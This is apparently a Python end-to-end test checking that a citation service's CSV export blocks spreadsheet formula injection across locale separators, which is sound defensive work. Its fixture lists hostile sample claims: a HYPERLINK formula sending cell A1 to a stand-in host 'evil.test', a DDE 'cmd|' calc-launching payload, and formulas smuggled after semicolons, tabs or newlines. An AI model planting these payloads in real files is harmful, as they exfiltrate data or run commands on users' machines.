"""Issue 48, low finding: the CSV of the citations to fix goes to supervisors, who open it
in a spreadsheet, and a spreadsheet splits it by its locale's list separator: ";" in German
or French Excel, not the "," the file is written with. A claim ``x;=1+1;y`` was one
harmless cell in the file and a formula cell there (its start alone was checked).

The real service on loopback and the real Postgres: Alice's run gets a report whose claims
a student (or whoever wrote the thesis) chose, she downloads its CSV as her supervisor
would, and the file is read as spreadsheets read it: by ",", ";" and tab, honouring the
quotes or not, line by line. No cell may open with a formula (OWASP's =, +, -, @, also
after blanks or a double quote); read by ",", each claim is the student's own text, with a
quote mark only where a formula could start.
"""

from __future__ import annotations

import csv
import io

import asyncpg

from citerun.pipeline import judge
from tests.e2e.test_web_service import served, users
from tests.unit.test_report_meaning import EMBEDDED_CONTRADICTED, _build, _row

FORMULA = ("=", "+", "-", "@")
# (claim as written, the claim cell read by ",")
CLAIMS = [
    ('=HYPERLINK("http://evil.test/?d="&A1,"Open the source")',
     '\'=HYPERLINK("http://evil.test/?d="&A1,"Open the source")'),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("x;=1+1;y", "x;'=1+1;y"),
    ('Anxiety fell;"=HYPERLINK(""http://evil.test"")";as shown',
     'Anxiety fell;\'"=HYPERLINK(""http://evil.test"")";as shown'),
    ("Anxiety fell,\t+cmd|' /C calc'!A0", "Anxiety fell,'\t'+cmd|' /C calc'!A0"),
    ("Anxiety fell.\n=1+1", "Anxiety fell.\n'=1+1"),
    (" =1+1", "' =1+1"),
    # Legitimate text is left as it is.
    ("Exercise lowers anxiety, as Smith (2020; p. 4) found - in adults.",
     "Exercise lowers anxiety, as Smith (2020; p. 4) found - in adults."),
    ('The "effect" held (r = -0.3, p < 0.05).', 'The "effect" held (r = -0.3, p < 0.05).'),
]


def _cells_as_spreadsheets_read(text: str) -> list[tuple[str, str]]:
    """Every cell of ``text`` as a spreadsheet of some locale could read it: split by each
    list separator with the quotes honoured, and split naively, line by line."""
    cells = []
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            cells += [(f"quoted {separator!r}", cell) for cell in row]
        for line in text.splitlines():
            cells += [(f"naive {separator!r}", cell) for cell in line.split(separator)]
    return cells


def _formula(cell: str) -> bool:
    return cell.lstrip(" \u00a0\t\r\n\"").startswith(FORMULA)


async def test_no_cell_of_the_csv_is_a_formula_in_any_locale(pool: asyncpg.Pool) -> None:
    async with served(pool) as base, users(base, "alice") as (alice,):
        status, body = await alice.upload()
        assert status == 202, body
        run_id = body["runId"]
        built, _ = _build(*(_row(n, judge.Verdict.CONTRADICTED, EMBEDDED_CONTRADICTED,
                                 claim=claim)
                            for n, (claim, _) in enumerate(CLAIMS, start=1)))
        await pool.execute("INSERT INTO reports (run_id, json, html) VALUES ($1, $2, '')",
                           run_id, built.model_dump(mode="json"))

        async with alice.http.get(f"/api/runs/{run_id}/citations.csv") as response:
            assert response.status == 200, await response.text()
            text = (await response.read()).decode("utf-8-sig")

        formulas = [(how, cell) for how, cell in _cells_as_spreadsheets_read(text)
                    if _formula(cell)]
        # (before: 14, among them ("quoted ';'", '=1+1') and ("quoted ','", ' =1+1'))
        assert formulas == [], formulas
        rows = list(csv.DictReader(io.StringIO(text)))
        assert sorted(r["claim"] for r in rows) == sorted(cell for _, cell in CLAIMS)
        assert all(r["why"].startswith("The source says") for r in rows)
